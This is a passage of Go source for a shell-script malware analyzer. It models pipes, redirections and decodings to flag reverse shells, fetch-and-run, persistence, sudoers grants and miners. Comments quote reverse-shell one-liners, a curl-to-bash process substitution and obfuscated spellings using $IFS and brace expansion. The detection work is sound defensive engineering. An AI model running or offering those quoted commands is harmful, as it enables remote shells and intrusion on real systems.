package shell

import (
	"bytes"
	"errors"
	"path"
	"slices"
	"strconv"
	"strings"

	shexpand "mvdan.cc/sh/v3/expand"
	"mvdan.cc/sh/v3/syntax"
)

// Limits that keep one hostile file from costing more than a moment.
const (
	maxStmts      = 20000   // statements evaluated per file, over every pass and nesting
	maxNesting    = 8       // sh -c, eval and decoded code inside each other
	maxCallDepth  = 4       // shell function calls inside each other
	maxValueBytes = 1 << 20 // text a value keeps
	maxPasses     = 3       // passes over a script so named pipes written late feed reads early
)

// analysis is the state of one file's analysis: what the script has set, written and made,
// and what it was found doing.
type analysis struct {
	vars  map[string]val
	funcs map[string]*syntax.Stmt
	// files are the files the script wrote (or downloaded to), by path; fifos the named
	// pipes it made. Both outlive a pass, so that a pipe written at the end of a pipeline is
	// read at its start on the next pass.
	files map[string]val
	fifos map[string]bool
	// shellFDs are the shell's own descriptors (exec 5<>/dev/tcp/...).
	shellFDs fdset
	pos      []val // positional parameters
	budget   int
	nesting  int
	calls    int
	// chain is the decodings that produced the code being analysed; place the persistence
	// place it was written into by a script ("" when it is the file's own text).
	chain []string
	place string
	// src is the text being parsed, for evidence; pipeline is the whole pipeline the
	// command being run is a stage of, which evidence shows rather than the stage alone.
	src      []byte
	pipeline *syntax.Stmt
	// lineBase is added to the line numbers of the text parsed at the file's own level (a
	// crontab's command field starts on its line); fileLine is the line of the file-level
	// statement being run, which every hit inside it reports.
	lineBase int
	fileLine int
	hits     *hitList
	// runs, when set, collects every program or script file the code runs (an autostart
	// file's targets); runAs says through what (an alias or function that shadows a command),
	// shadow whether the code being analysed is an alias or function body rather than run
	// at once.
	runs  *[]run
	runAs *runVia
	// procSubst counts the <(cmd) substitutions made, each given a /dev/fd path of its own.
	procSubst int
	// cwd is the directory a cd moved to, "" when it is not known (the home directory).
	cwd string
	// exhaustive is Analyzer.Exhaustive: no shortcut in front of the work it saves.
	exhaustive bool
	// built are the files the script compiled (gcc -o FILE), by path, with the compiler.
	built map[string]string
	// self is the path of the file analysed ("" for a command line).
	self string
	// clock says how the script set the system clock ("" while it has not): what it writes
	// then is dated then.
	clock string
	// planted are the files the script copied, moved or installed into place, by path.
	planted map[string]bool
	// copiedFrom is where each file the script copied or installed came from, by path.
	copiedFrom map[string]string
	// logCopies are files the script wrote from a login record or system log it read (a
	// filtered copy, a dump), by path, with the log; logPiped is the log the last filter
	// read into a pipe, for the next command of the pipeline.
	logCopies map[string]string
	logPiped  string
	// cred is what the code did with credentials, esc what it did towards the host.
	cred credState
	esc  escapeState
	// miner is what the script did to ready the machine for mining (minerprep.go).
	miner minerState
	// funcArgs are the states shell functions were run in (callWorthRunning), funcVars the
	// variables each function's body reads.
	funcArgs map[string]bool
	funcVars map[*syntax.Stmt][]string
	// order tells whether another pass can learn anything (stale).
	order passOrder
	// loops is how many loops the statement being run is inside; spawnLine the line of an
	// expect file's spawn being read.
	loops     int
	spawnLine int
}

func newAnalysis(hits *hitList) *analysis {
	return &analysis{vars: map[string]val{}, funcs: map[string]*syntax.Stmt{}, files: map[string]val{},
		fifos: map[string]bool{}, shellFDs: fdset{}, budget: maxStmts, hits: hits}
}

// desc is one file descriptor of a command: what reading it gives and where writing goes.
type desc struct {
	rd val
	wr *sink
}

// sink is where a command's output goes.
type sink struct {
	buf  *val   // a pipe or a capture
	path string // a file
	app  bool
	net  bool
	to   string // the endpoint of a network sink
}

type fdset map[int]desc

func (f fdset) clone() fdset {
	out := make(fdset, len(f)+2)
	for k, v := range f {
		out[k] = v
	}
	return out
}

// shellText analyses shell code: the text is parsed whole, or line by line when it does not
// parse (a history file, a note with commands in it).
func (a *analysis) shellText(code []byte, fds fdset) {
	if a.nesting > maxNesting || a.budget <= 0 || len(code) == 0 {
		return
	}
	a.nesting++
	defer func() { a.nesting-- }()
	saved, savedPipe := a.src, a.pipeline
	a.pipeline = nil
	defer func() { a.src, a.pipeline = saved, savedPipe }()
	top := a.nesting == 1
	p := syntax.NewParser(syntax.Variant(syntax.LangBash))
	if f, err := p.Parse(bytes.NewReader(code), ""); err == nil {
		a.src = code
		for _, st := range f.Stmts {
			if top {
				a.fileLine = a.lineBase + int(st.Pos().Line())
			}
			a.stmt(st, fds)
		}
		return
	}
	for _, ll := range logicalLines(code) {
		f, err := p.Parse(bytes.NewReader(ll.text), "")
		if err != nil {
			fixed := splitDupRepaired(ll.text)
			if fixed != nil {
				f, err = p.Parse(bytes.NewReader(fixed), "")
			}
			if err != nil {
				if f = parsedPrefix(p, ll.text, err); f == nil {
					continue
				}
			}
		}
		if top {
			a.fileLine = a.lineBase + ll.line
		}
		a.src = ll.text
		a.stmts(f.Stmts, fds)
	}
}

// parsedPrefix parses the part of a line before its syntax error, nil when that does not
// parse either: a command with trailing junk (a stray redirection, padding after a carriage
// return that hides it from cat) still runs, or is meant to, up to there.
func parsedPrefix(p *syntax.Parser, line []byte, err error) *syntax.File {
	for try := 0; try < 3; try++ {
		var pe syntax.ParseError
		if !errors.As(err, &pe) {
			return nil
		}
		cut := min(int(pe.Pos.Offset()), len(line))
		if cut <= 0 {
			return nil
		}
		line = bytes.TrimRight(line[:cut], " \t\r")
		if len(bytes.TrimSpace(line)) == 0 {
			return nil
		}
		f, e := p.Parse(bytes.NewReader(line), "")
		if e == nil {
			return f
		}
		err = e
	}
	return nil
}

// shellLines analyses text line by line, each line on its own (prose around a command is
// skipped to the command), with the variables of one line seen by the next.
func (a *analysis) shellLines(lines []logicalLine) {
	saved, savedPipe := a.src, a.pipeline
	defer func() { a.src, a.pipeline = saved, savedPipe }()
	p := syntax.NewParser(syntax.Variant(syntax.LangBash))
	for _, ll := range lines {
		if a.budget <= 0 {
			return
		}
		f, err := p.Parse(bytes.NewReader(ll.text), "")
		if err != nil {
			if f = parseFromCommand(p, ll.text); f == nil {
				fixed := splitDupRepaired(ll.text)
				if fixed == nil {
					continue
				}
				if f, err = p.Parse(bytes.NewReader(fixed), ""); err != nil {
					continue
				}
			}
		}
		a.fileLine = a.lineBase + ll.line
		a.src, a.pipeline = ll.text, nil
		a.stmts(f.Stmts, fdset{})
	}
}

// splitDupRepaired returns a copy of line with each redirection operator split by blanks
// joined again ("bash -i > & /dev/tcp/h/p 0>&1", "0< &3"; the blanks go after it, so that
// the copy's offsets are the line's and evidence quotes the line as written), or nil when it
// has none. Bash rejects the split form, so the line never ran as written; but it says what
// its writer meant as plainly as the working one, and a reverse shell someone tried to plant
// is evidence all the same.
func splitDupRepaired(line []byte) []byte {
	var out []byte
	for i := 0; i+2 < len(line); i++ {
		c := line[i]
		if c != '>' && c != '<' || line[i+1] != ' ' && line[i+1] != '\t' {
			continue
		}
		j := i + 1
		for j < len(line) && (line[j] == ' ' || line[j] == '\t') {
			j++
		}
		if j < len(line) && line[j] == '&' && (j+1 == len(line) || line[j+1] != '&') {
			if out == nil {
				out = bytes.Clone(line)
			}
			copy(out[i+2:j+1], line[i+1:j]) // the blanks, after the &
			out[i+1] = '&'
			i = j
		}
	}
	return out
}

type logicalLine struct {
	text []byte
	line int // 1-based, of its first physical line
}

// logicalLines splits text into lines, joining backslash continuations.
func logicalLines(code []byte) []logicalLine {
	var out []logicalLine
	var cur []byte
	start := 1
	for i, l := range bytes.Split(code, []byte("\n")) {
		if cur == nil {
			start = i + 1
		}
		l = bytes.TrimRight(l, "\r")
		if bytes.HasSuffix(l, []byte(`\`)) {
			cur = append(cur, l[:len(l)-1]...)
			continue
		}
		cur = append(cur, l...)
		if len(bytes.TrimSpace(cur)) > 0 {
			out = append(out, logicalLine{cur, start})
		}
		cur = nil
	}
	if len(bytes.TrimSpace(cur)) > 0 {
		out = append(out, logicalLine{cur, start})
	}
	return out
}

// parseFromCommand parses a line of prose from the first word that names a command the
// detectors care about ("run: bash -i >& /dev/tcp/..." in a note).
func parseFromCommand(p *syntax.Parser, line []byte) *syntax.File {
	for i := 0; i < len(line); i++ {
		if i > 0 && !isSpaceOrPunct(line[i-1]) {
			continue
		}
		j := i
		for j < len(line) && !isSpaceOrPunct(line[j]) {
			j++
		}
		if j == i || !interesting(path.Base(string(line[i:j]))) {
			continue
		}
		if f, err := p.Parse(bytes.NewReader(line[i:]), ""); err == nil {
			return f
		}
		// A command quoted in code or prose: "bash -i >& /dev/tcp/h/p 0>&1" in os.system("...").
		if i > 0 && (line[i-1] == '"' || line[i-1] == '\'' || line[i-1] == '`') {
			if k := bytes.IndexByte(line[i:], line[i-1]); k > 0 {
				if f, err := p.Parse(bytes.NewReader(line[i:i+k]), ""); err == nil {
					return f
				}
			}
		}
	}
	return nil
}

func isSpaceOrPunct(c byte) bool {
	return c == ' ' || c == '\t' || c == '`' || c == '(' || c == ':' || c == '>' || c == '"' || c == '\''
}

func (a *analysis) stmts(ss []*syntax.Stmt, fds fdset) {
	for _, s := range ss {
		a.stmt(s, fds)
	}
}

// evidence returns the source text of a node, on one line, trimmed.
func (a *analysis) evidence(n syntax.Node) string {
	if n == nil || a.src == nil {
		return ""
	}
	start, end := int(n.Pos().Offset()), int(n.End().Offset())
	if start < 0 || end > len(a.src) || start >= end {
		return ""
	}
	return oneLine(string(a.src[start:end]), 240)
}

func oneLine(s string, n int) string {
	s = strings.Join(strings.Fields(s), " ")
	if r := []rune(s); len(r) > n {
		s = string(r[:n-1]) + "…"
	}
	return s
}

// line is the file line a hit at n reports: that of the file-level statement running.
func (a *analysis) line(n syntax.Node) int {
	if a.fileLine > 0 {
		return a.fileLine
	}
	if n == nil {
		return 0
	}
	return a.lineBase + int(n.Pos().Line())
}

func (a *analysis) stmt(s *syntax.Stmt, fds fdset) {
	if a.budget <= 0 || s == nil {
		return
	}
	a.budget--
	if len(s.Redirs) > 0 {
		a.wipeRedirect(s)
	}
	fds = a.redirect(s, fds)
	switch c := s.Cmd.(type) {
	case *syntax.CallExpr:
		a.callExpr(s, c, fds)
	case *syntax.BinaryCmd:
		switch c.Op {
		case syntax.Pipe, syntax.PipeAll:
			if a.pipeline == nil {
				a.pipeline = s
				defer func() { a.pipeline = nil }()
			}
			buf := &val{}
			left := fds.clone()
			left[1] = desc{wr: &sink{buf: buf}}
			if c.Op == syntax.PipeAll {
				left[2] = left[1]
			}
			a.stmt(c.X, left)
			right := fds.clone()
			right[0] = desc{rd: *buf}
			a.stmt(c.Y, right)
		case syntax.OrStmt:
			// x || y: y runs when x fails; what x printed (which python || which python3)
			// is the output, and y's is not added to it.
			var before string
			buf := fds[1].wr
			if buf != nil && buf.buf != nil {
				before = buf.buf.s
			}
			a.stmt(c.X, fds)
			if buf != nil && buf.buf != nil && buf.buf.s != before {
				alt := fds.clone()
				alt[1] = desc{wr: &sink{buf: &val{}}}
				a.stmt(c.Y, alt)
				break
			}
			a.stmt(c.Y, fds)
		default:
			a.stmt(c.X, fds)
			a.stmt(c.Y, fds)
		}
	case *syntax.Block:
		a.stmts(c.Stmts, fds)
	case *syntax.Subshell:
		a.stmts(c.Stmts, fds)
	case *syntax.IfClause:
		for cl := c; cl != nil; cl = cl.Else {
			a.stmts(cl.Cond, fds)
			a.stmts(cl.Then, fds)
		}
	case *syntax.WhileClause:
		a.loop(s, func() {
			a.stmts(c.Cond, fds)
			a.stmts(c.Do, fds)
		})
	case *syntax.ForClause:
		a.loop(s, func() { a.forClause(c, fds) })
	case *syntax.CaseClause:
		for _, it := range c.Items {
			a.stmts(it.Stmts, fds)
		}
	case *syntax.FuncDecl:
		a.funcDecl(s, c, fds)
	case *syntax.DeclClause:
		for _, as := range c.Args {
			a.assign(as)
		}
	case *syntax.TimeClause:
		a.stmt(c.Stmt, fds)
	case *syntax.CoprocClause:
		a.stmt(c.Stmt, fds)
	}
}

// forClause runs a for loop's body once, its variable the first word it iterates over.
func (a *analysis) forClause(c *syntax.ForClause, fds fdset) {
	if wi, ok := c.Loop.(*syntax.WordIter); ok && wi.Name != nil {
		v := unknownVal()
		if len(wi.Items) > 0 {
			if fields := a.fields(wi.Items[0]); len(fields) > 0 {
				v = fields[0]
			}
		}
		a.vars[wi.Name.Value] = v
	}
	a.stmts(c.Do, fds)
}

// funcDecl keeps a function for its calls; one that shadows a command in a start-up file, or
// a password prompt's, is read as run.
func (a *analysis) funcDecl(s *syntax.Stmt, c *syntax.FuncDecl, fds fdset) {
	if c.Name != nil && a.place != "" && a.runs == nil && shadowed[c.Name.Value] {
		a.shadowFunc(s, c)
	}
	if c.Name != nil {
		a.funcs[c.Name.Value] = c.Body
		if a.runs == nil && authPrograms[c.Name.Value] && a.calls < maxCallDepth {
			// sudo() { ... }: a function in place of a command that asks for a password
			// runs when the name is typed, called here or not; what it does with the
			// password counts
			a.calls++
			a.stmt(c.Body, fds)
			a.calls--
		} else if a.runs != nil && a.runAs == nil && a.calls < maxCallDepth {
			// A function defined where shells read it (a profile, an rc file) runs
			// whenever its name is typed: what it runs counts, called or not.
			a.calls++
			a.runAs = &runVia{how: "function " + c.Name.Value, name: c.Name.Value, evidence: a.evidence(s), line: a.line(s)}
			a.stmt(c.Body, fds)
			a.runAs = nil
			a.calls--
		}
	}
}

func (a *analysis) assign(as *syntax.Assign) {
	if as == nil || as.Name == nil {
		return
	}
	v := lit("")
	if as.Value != nil {
		v = a.word(as.Value)
	} else if as.Array != nil {
		var parts []val
		for _, e := range as.Array.Elems {
			if e.Value != nil {
				parts = append(parts, a.word(e.Value), lit(" "))
			}
		}
		v = concat(parts...)
	}
	if as.Append {
		v = concat(a.vars[as.Name.Value], v)
	}
	a.vars[as.Name.Value] = clip(v)
	if strings.HasPrefix(as.Name.Value, "HIST") || as.Name.Value == "SAVEHIST" {
		a.historyAssign(as, v)
	}
	if a.runs != nil && (as.Name.Value == "PATH" || as.Name.Value == "LD_PRELOAD" || as.Name.Value == "LD_AUDIT") {
		a.recordEnv(as, as.Name.Value, v)
	}
}

func clip(v val) val {
	if len(v.s) > maxValueBytes {
		v.s, v.partial = v.s[:maxValueBytes]+unknown, true
	}
	return v
}

// redirect applies a statement's redirections to a copy of fds.
func (a *analysis) redirect(s *syntax.Stmt, fds fdset) fdset {
	if len(s.Redirs) == 0 {
		return fds
	}
	fds = fds.clone()
	for _, r := range s.Redirs {
		n := 1
		switch r.Op {
		case syntax.RdrIn, syntax.RdrInOut, syntax.DplIn, syntax.Hdoc, syntax.DashHdoc, syntax.WordHdoc:
			n = 0
		}
		if r.N != nil {
			if x, err := strconv.Atoi(r.N.Value); err == nil {
				n = x
			} else {
				continue // {varname}>: bash picks the number
			}
		}
		switch r.Op {
		case syntax.RdrIn:
			fds[n] = a.openFile(a.word(r.Word), false, false, fds)
		case syntax.RdrOut, syntax.ClbOut, syntax.AppOut:
			fds[n] = a.openFile(a.word(r.Word), true, r.Op == syntax.AppOut, fds)
		case syntax.RdrInOut:
			fds[n] = a.openFile(a.word(r.Word), true, true, fds)
		case syntax.RdrAll, syntax.AppAll:
			d := a.openFile(a.word(r.Word), true, r.Op == syntax.AppAll, fds)
			fds[1], fds[2] = d, d
		case syntax.DplIn, syntax.DplOut:
			w := a.word(r.Word)
			t := strings.TrimSuffix(w.s, "-") // n>&m- moves
			if w.s == "-" {
				delete(fds, n)
				continue
			}
			if m, err := strconv.Atoi(t); err == nil {
				if d, ok := fds[m]; ok {
					fds[n] = d
				} else if d, ok := a.shellFDs[m]; ok {
					fds[n] = d
				} else {
					delete(fds, n)
				}
				continue
			}
			// >& file is &> file.
			d := a.openFile(w, true, false, fds)
			if r.N == nil && r.Op == syntax.DplOut {
				fds[1], fds[2] = d, d
			} else {
				fds[n] = d
			}
		case syntax.Hdoc, syntax.DashHdoc:
			if r.Hdoc != nil {
				if lt, ok := quotedHdoc(r); ok {
					// <<'EOF': the body is literal, backslashes and all
					fds[0] = desc{rd: lit(lt)}
				} else {
					fds[0] = desc{rd: a.word(r.Hdoc)}
				}
			}
		case syntax.WordHdoc:
			fds[0] = desc{rd: concat(a.word(r.Word), lit("\n"))}
		}
	}
	return fds
}

// quotedHdoc returns the literal body of a heredoc whose delimiter is quoted (<<'EOF',
// <<"EOF", <<\EOF): the shell expands nothing in it.
func quotedHdoc(r *syntax.Redirect) (string, bool) {
	if r.Word == nil || r.Hdoc == nil {
		return "", false
	}
	quoted := false
	for _, p := range r.Word.Parts {
		switch x := p.(type) {
		case *syntax.SglQuoted, *syntax.DblQuoted:
			quoted = true
		case *syntax.Lit:
			quoted = quoted || strings.Contains(x.Value, `\`)
		}
	}
	if !quoted {
		return "", false
	}
	var b strings.Builder
	for _, p := range r.Hdoc.Parts {
		l, ok := p.(*syntax.Lit)
		if !ok {
			return "", false
		}
		b.WriteString(l.Value)
	}
	return b.String(), true
}

// openFile returns the descriptor a redirection to p opens: a network connection for
// /dev/tcp and /dev/udp, the script's own descriptors for /dev/stdin and /dev/fd/N, a file
// the script wrote (or a named pipe it made) otherwise.
func (a *analysis) openFile(p val, write, app bool, fds fdset) desc {
	name := p.s
	if a.cwd != "" && name != "" && p.known() && !strings.HasPrefix(name, "/") && !strings.HasPrefix(name, "~") {
		name = path.Join(a.cwd, name) // cd /proc/sys/kernel; echo '|...' > core_pattern
	}
	switch {
	case strings.HasPrefix(name, "/dev/tcp/") || strings.HasPrefix(name, "/dev/udp/"):
		end := endpointOf(name)
		return desc{rd: val{s: unknown, partial: true, net: true, via: "/dev/tcp", from: end}, wr: &sink{net: true, to: end}}
	case name == "/dev/null":
		return desc{}
	case name == "/dev/stdin":
		return fds[0]
	case name == "/dev/stdout":
		return fds[1]
	case name == "/dev/stderr":
		return fds[2]
	case strings.HasPrefix(name, "/dev/fd/"):
		if n, err := strconv.Atoi(strings.TrimPrefix(name, "/dev/fd/")); err == nil {
			return fds[n]
		}
	}
	d := desc{rd: a.readFile(name)}
	d.rd.file = name
	if k := credPath(name); k != "" && !write {
		d.rd.cred = joinCred(d.rd.cred, k)
	}
	if write {
		d.wr = &sink{path: name, app: app}
	}
	return d
}

// endpointOf renders /dev/tcp/HOST/PORT as HOST:PORT.
func endpointOf(devPath string) string {
	parts := strings.SplitN(strings.TrimPrefix(strings.TrimPrefix(devPath, "/dev/tcp/"), "/dev/udp/"), "/", 2)
	if len(parts) == 2 {
		return strings.ReplaceAll(parts[0]+":"+parts[1], unknown, "?")
	}
	return strings.ReplaceAll(parts[0], unknown, "?")
}

// readFile returns what reading p gives: what the script wrote there, marked as carried by
// a named pipe when p is one.
func (a *analysis) readFile(p string) val {
	v, ok := a.file(p)
	if !ok {
		v = unknownVal()
	}
	if a.isFifo(p) && v.net {
		v.via = "fifo"
	}
	return v
}

// write sends v to where a descriptor's writes go.
func (a *analysis) write(d desc, v val, at syntax.Node) {
	s := d.wr
	switch {
	case s == nil:
	case s.buf != nil:
		first := s.buf.s == "" && s.buf.file == "" && !s.buf.partial
		*s.buf = clip(concat(*s.buf, v))
		if first {
			// One file's bytes alone in a pipe are still that file's (cat FILE | sh).
			s.buf.file = v.file
		}
	case s.path != "":
		a.writeFile(s.path, v, s.app, at)
	case s.net:
		if st, ok := at.(*syntax.Stmt); ok {
			a.send(st, "/dev/tcp", s.to, v)
		}
	}
}

// writeFile records what the script wrote into p; text written into a persistence place is
// analysed as that place's file.
func (a *analysis) writeFile(p string, v val, app bool, at syntax.Node) {
	if app {
		if old, ok := a.file(p); ok {
			v = concat(old, v)
		}
	}
	a.putFile(p, clip(v))
	a.stage(p, v.cred, at)
	a.clockWrite(at, p)
	a.keptTyped(p, v, at)
	a.escWrite(p, v, at)
	a.minerWrite(p, v.s, at)
	if v.s != "" && v.s != unknown {
		a.written(p, v, at)
	}
	if (p == sudoersMain || sudoersRead(p)) && sudoRootLine(v.s) && !slices.ContainsFunc(a.hits.hits, func(h hit) bool { return h.kind == hitSudoGrant }) {
		a.hits.add(hit{kind: hitSudoGrant, evidence: a.evidence(at), line: a.line(at)})
	}
}

// sudoRootLine reports sudoers text granting some user every command (USER ALL=(...) ALL,
// NOPASSWD: ALL), other than root's and the admin groups' own lines.
func sudoRootLine(text string) bool {
	for _, l := range strings.Split(text, "\n") {
		f := strings.Fields(sudoersComment(l))
		if len(f) < 2 || f[0] == "root" || strings.HasPrefix(f[0], "%") || f[0] == "Defaults" || strings.HasSuffix(f[0], "_Alias") ||
			!strings.Contains(l, "=") || f[len(f)-1] != "ALL" && !strings.HasSuffix(f[len(f)-1], ":ALL") {
			continue
		}
		return true
	}
	return false
}

// fields expands a word into fields: unquoted expansions whose value holds blanks are split,
// as the shell does ($CMD with CMD="nc -e /bin/sh h p").
func (a *analysis) fields(w *syntax.Word) []val { return a.appendFields(nil, w) }

// appendFields appends the fields of w to out (fields without a slice of its own).
func (a *analysis) appendFields(out []val, w *syntax.Word) []val {
	if ws := braceWords(w); ws != nil {
		// {bash,-i} is two words, as bash's brace expansion makes it: a command spelled so
		// that it holds no blank ({echo,QmFz...}|{base64,-d}|{bash,-i})
		for _, x := range ws {
			out = a.appendFields(out, x)
		}
		return out
	}
	if groups := ifsSplit(w); groups != nil {
		// bash${IFS}-c${IFS}'...': an unquoted $IFS is a field separator, a command spelled
		// with no blank
		for _, g := range groups {
			if len(g) > 0 {
				out = a.appendFields(out, &syntax.Word{Parts: g})
			}
		}
		return out
	}
	v := a.word(w)
	split := false
	for _, p := range w.Parts {
		switch p := p.(type) {
		case *syntax.ParamExp, *syntax.CmdSubst:
			split = true
		case *syntax.DblQuoted:
			// "${A[@]}" is each element of the array as a field of its own
			if len(p.Parts) == 1 {
				if pe, ok := p.Parts[0].(*syntax.ParamExp); ok && pe.Index != nil {
					if iw, ok := pe.Index.(*syntax.Word); ok && iw.Lit() == "@" {
						split = true
					}
				}
			}
		}
	}
	if !split || !strings.ContainsAny(v.s, " \t\n") {
		return append(out, v)
	}
	n := len(out)
	for _, f := range strings.Fields(v.s) {
		x := v
		x.s, x.partial = f, strings.Contains(f, unknown)
		out = append(out, x)
	}
	if len(out) == n {
		return append(out, lit(""))
	}
	return out
}

// word evaluates a word to its value.
func (a *analysis) word(w *syntax.Word) val {
	if w == nil {
		return lit("")
	}
	if len(w.Parts) == 1 {
		return clip(concat(a.part(w.Parts[0], false)))
	}
	vs := make([]val, 0, len(w.Parts))
	for _, p := range w.Parts {
		vs = append(vs, a.part(p, false))
	}
	return clip(concat(vs...))
}

func (a *analysis) part(p syntax.WordPart, quoted bool) val {
	switch x := p.(type) {
	case *syntax.Lit:
		if quoted {
			return lit(unescapeDouble(x.Value))
		}
		return lit(unescapeBare(x.Value))
	case *syntax.SglQuoted:
		if x.Dollar {
			return lit(unquoteC(x.Value))
		}
		return lit(x.Value)
	case *syntax.DblQuoted:
		vs := make([]val, 0, len(x.Parts))
		for _, q := range x.Parts {
			vs = append(vs, a.part(q, true))
		}
		return concat(vs...)
	case *syntax.ParamExp:
		return a.param(x)
	case *syntax.CmdSubst:
		return a.cmdSubst(x)
	case *syntax.ArithmExp:
		if n, ok := arith(x.X, a); ok {
			return lit(strconv.FormatInt(n, 10))
		}
	case *syntax.ProcSubst:
		// <(cmd) and >(cmd): the command runs. <(cmd) is a path (/dev/fd/N) whose content is
		// what cmd writes: bash <(curl -s URL) runs what it downloads.
		buf := &val{}
		fds := fdset{1: desc{wr: &sink{buf: buf}}}
		a.stmts(x.Stmts, fds)
		if x.Op == syntax.CmdIn && (buf.s != "" || buf.tainted()) {
			a.procSubst++
			p := "/dev/fd/" + strconv.Itoa(64-a.procSubst)
			a.putFile(p, clip(*buf))
			return lit(p)
		}
	}
	return unknownVal()
}

func unescapeBare(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) {
			i++
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func unescapeDouble(s string) string {
	if !strings.Contains(s, `\`) {
		return s
	}
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '\\' && i+1 < len(s) && strings.IndexByte("$`\"\\\n", s[i+1]) >= 0 {
			i++
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

// arith evaluates the integer arithmetic scripts use to build ports (4000+444).
func arith(e syntax.ArithmExpr, a *analysis) (int64, bool) {
	switch x := e.(type) {
	case *syntax.Word:
		v := a.word(x)
		if !v.known() {
			return 0, false
		}
		if n, err := strconv.ParseInt(strings.TrimSpace(v.s), 0, 64); err == nil {
			return n, true
		}
		if w, ok := a.vars[strings.TrimSpace(v.s)]; ok && w.known() {
			n, err := strconv.ParseInt(strings.TrimSpace(w.s), 0, 64)
			return n, err == nil
		}
	case *syntax.ParenArithm:
		return arith(x.X, a)
	case *syntax.BinaryArithm:
		l, ok1 := arith(x.X, a)
		r, ok2 := arith(x.Y, a)
		if !ok1 || !ok2 {
			return 0, false
		}
		switch x.Op {
		case syntax.Add:
			return l + r, true
		case syntax.Sub:
			return l - r, true
		case syntax.Mul:
			return l * r, true
		case syntax.Quo:
			if r != 0 {
				return l / r, true
			}
		}
	}
	return 0, false
}

// param evaluates $x, ${x}, ${x:-default}, ${x/a/b}, ${x:o:l} and the positional parameters.
func (a *analysis) param(p *syntax.ParamExp) val {
	if p.Param == nil || p.Length || p.Excl {
		return unknownVal()
	}
	name := p.Param.Value
	if p.Index != nil {
		// an array is kept as its elements joined by blanks: ${A[@]} and ${A[*]} are all of
		// them, ${A[n]} the nth
		v, ok := a.vars[name]
		w, isWord := p.Index.(*syntax.Word)
		if !ok || !isWord || p.Exp != nil || p.Slice != nil || p.Repl != nil {
			return unknownVal()
		}
		switch i := w.Lit(); {
		case i == "@" || i == "*":
			return v
		default:
			n, err := strconv.Atoi(i)
			if f := strings.Fields(v.s); err == nil && n >= 0 && n < len(f) && v.known() {
				return lit(f[n])
			}
			return unknownVal()
		}
	}
	v, ok := a.vars[name]
	switch {
	case ok:
	case len(name) == 1 && name[0] >= '1' && name[0] <= '9':
		i := int(name[0] - '1')
		if i < len(a.pos) {
			v, ok = a.pos[i], true
		}
	case name == "@" || name == "*":
		if len(a.pos) > 0 {
			parts := make([]val, 0, 2*len(a.pos))
			for i, x := range a.pos {
				if i > 0 {
					parts = append(parts, lit(" "))
				}
				parts = append(parts, x)
			}
			v, ok = concat(parts...), true
		}
	case name == "SHELL":
		v, ok = lit("/bin/sh"), true
	case name == "IFS":
		v, ok = lit(" "), true
	case cgiVars[name] || strings.HasPrefix(name, "HTTP_"):
		// a web server hands a CGI script the request in its environment
		v, ok = val{s: unknown, partial: true, net: true, via: "cgi", from: "$" + name}, true
	case name == "BASH":
		v, ok = lit("/bin/bash"), true
	}
	if p.Exp != nil {
		switch p.Exp.Op {
		case syntax.DefaultUnset, syntax.DefaultUnsetOrNull:
			if !ok || v.s == "" {
				return a.word(p.Exp.Word)
			}
		case syntax.AlternateUnset, syntax.AlternateUnsetOrNull:
			if ok && v.s != "" {
				return a.word(p.Exp.Word)
			}
			return lit("")
		case syntax.AssignUnset, syntax.AssignUnsetOrNull:
			if !ok || v.s == "" {
				v = a.word(p.Exp.Word)
				a.vars[name] = v
				return v
			}
		}
	}
	if !ok {
		return unknownVal()
	}
	if p.Repl != nil && v.known() {
		orig, with := a.word(p.Repl.Orig), a.word(p.Repl.With)
		if orig.known() && !with.partial {
			if p.Repl.All {
				v.s = strings.ReplaceAll(v.s, orig.s, with.s)
			} else {
				v.s = strings.Replace(v.s, orig.s, with.s, 1)
			}
		} else {
			return unknownVal()
		}
	}
	if p.Slice != nil && v.known() {
		off, ok1 := arith(p.Slice.Offset, a)
		if !ok1 {
			return unknownVal()
		}
		s := v.s
		if off < 0 {
			off += int64(len(s))
		}
		if off < 0 || off > int64(len(s)) {
			return lit("")
		}
		s = s[off:]
		if p.Slice.Length != nil {
			l, ok2 := arith(p.Slice.Length, a)
			if !ok2 {
				return unknownVal()
			}
			if l >= 0 && l < int64(len(s)) {
				s = s[:l]
			}
		}
		v.s = s
	}
	return v
}

// cmdSubst runs $(...) and returns its output: known when the commands are ones whose
// output the analysis can compute (echo, printf, decoders, cat of what the script wrote).
func (a *analysis) cmdSubst(c *syntax.CmdSubst) val {
	buf := &val{}
	fds := fdset{1: desc{wr: &sink{buf: buf}}}
	a.stmts(c.Stmts, fds)
	v := *buf
	v.s = strings.TrimRight(v.s, "\n")
	if v.s == "" && !v.tainted() {
		u := unknownVal()
		u.cred = v.cred
		return u
	}
	return v
}

// posOf returns the endpoint or origin of a value, for evidence.
func (v val) origin() string {
	if v.from != "" {
		return v.from
	}
	return ""
}

// hitAt records a finding of kind at node n.
func (a *analysis) hitAt(kind hitKind, n syntax.Node, v val, detail string) {
	if a.pipeline != nil {
		n = a.pipeline
	}
	h := hit{kind: kind, evidence: a.evidence(n), line: a.line(n), chain: slices.Clone(a.chain), place: a.place,
		from: v.origin(), detail: detail}
	if len(v.chain) > 0 {
		h.chain = append(h.chain, v.chain...)
	}
	a.hits.add(h)
}

// hitKind names a behaviour.
type hitKind int

const (
	hitDevTCP       hitKind = iota // a shell reading commands from /dev/tcp
	hitNetExec                     // a network tool told to run a shell (nc -e, telnetd -l, rcat -s)
	hitFifo                        // a shell looped through a named pipe and a network tool
	hitSocat                       // socat joining a connection to a shell
	hitNetPipe                     // a shell reading commands from a network client through a pipe
	hitLang                        // an interpreter's code connecting a socket to a shell
	hitCmdLoop                     // commands read from a connection and run
	hitXterm                       // an X terminal opened on a remote display
	hitFetchRun                    // downloaded code run
	hitDropRun                     // downloaded into a hidden or temporary place and run
	hitDecodeRun                   // decoded code run
	hitKeyAppend                   // a public key written into authorized_keys
	hitPreloadWrite                // a library written into /etc/ld.so.preload
	hitMiner                       // a cryptocurrency miner started with a pool and an account
	hitCGI                         // a shell CGI script running what the request says
	hitSudoersWrite                // a passwordless root grant written into sudoers
	hitPAMEdit                     // an auth line inserted into a PAM stack
	hitAuthReplace                 // a system authentication library or program replaced
	hitMasquerade                  // a program put at a system program's or daemon's path
